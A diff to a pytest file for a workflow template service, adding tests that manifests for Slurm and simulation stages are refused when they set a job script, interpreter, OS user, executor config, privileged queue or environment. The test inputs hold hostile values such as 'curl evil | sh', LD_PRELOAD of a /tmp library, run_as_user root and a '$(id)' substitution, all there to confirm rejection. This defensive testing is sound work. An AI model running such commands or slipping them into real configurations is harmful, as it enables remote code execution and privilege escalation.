@@ -125,6 +125,21 @@ def test_a_bash_stage_environment_cannot_change_how_programs_start(site: Any, en
     assert "not allowed" in answer.json()["detail"] or "reserved" in answer.json()["detail"]
 
 
+@pytest.mark.parametrize(("stage", "said"), [
+    ("kind: slurm_job\n    args: {script: 'curl evil | sh'}", "template_job_scripts"),
+    ("kind: simulation\n    args: {kernel: heat, python: /bin/sh}", "python cannot be set"),
+    ("kind: simulation\n    args: {kernel: heat, run_as_user: root}", "run_as_user cannot be set"),
+    ("kind: simulation\n    args: {kernel: heat, executor_config: {pod_override: {}}}", "executor_config cannot"),
+    ("kind: simulation\n    args: {kernel: heat, queue: privileged}", "queue cannot be set"),
+    ("kind: simulation\n    args: {kernel: heat, environment: {LD_PRELOAD: /tmp/x.so}}", "LD_PRELOAD"),
+])
+def test_other_stage_kinds_take_only_data_arguments(site: Any, stage: str, said: str) -> None:
+    """No cluster script, interpreter, OS user, executor or queue from a manifest (by default)."""
+    manifest = _manifest("[echo]").replace("kind: bash\n    args:\n      argv: [echo]", stage)
+    answer = _publish(site, "op", manifest)
+    assert answer.status_code == 422 and said in answer.json()["detail"], answer.text
+
+
 def test_allowed_programs_take_data_and_a_site_can_allow_more(site: Any) -> None:
     assert _publish(site, "op", _manifest('[echo, "{{ params.word }}", "$(id)"]')).status_code == 201
     kernel = _manifest('[python3, -m, simulation_kernels.climate, --steps, "{{ params.word }}"]', version="1.1.0")
@@ -230,7 +245,8 @@ def test_a_parameter_ending_in_sh_stays_data_through_airflows_rendering(tmp_path
 
     (tmp_path / "evil.sh").write_text("rendered-from-file {{ 6 * 7 }}")
     (tmp_path / "work.sh").write_text("/tmp/from-file")
-    repo = TemplateRepository(tmp_path / "repo", TemplateSettings(root=tmp_path / "repo"))
+    settings = TemplateSettings(root=tmp_path / "repo", job_scripts=True)
+    repo = TemplateRepository(settings.root, settings)
     manifest = """\
 name: slurmy
 version: 1.0.0
@@ -252,7 +268,7 @@ stages:
     repo.publish(manifest)
     record = repo.instantiate("slurmy", None, {"p": "evil.sh", "d": "work.sh"}, "alice")
     template = repo.get("slurmy")
-    dag = build_dag(template.manifest, record)
+    dag = build_dag(template.manifest, record, policy=settings.stage_policy)
     dag.template_searchpath = [str(tmp_path)]
     task = dag.get_task("job")
     task.render_template_fields({"params": {}, "dag": dag})
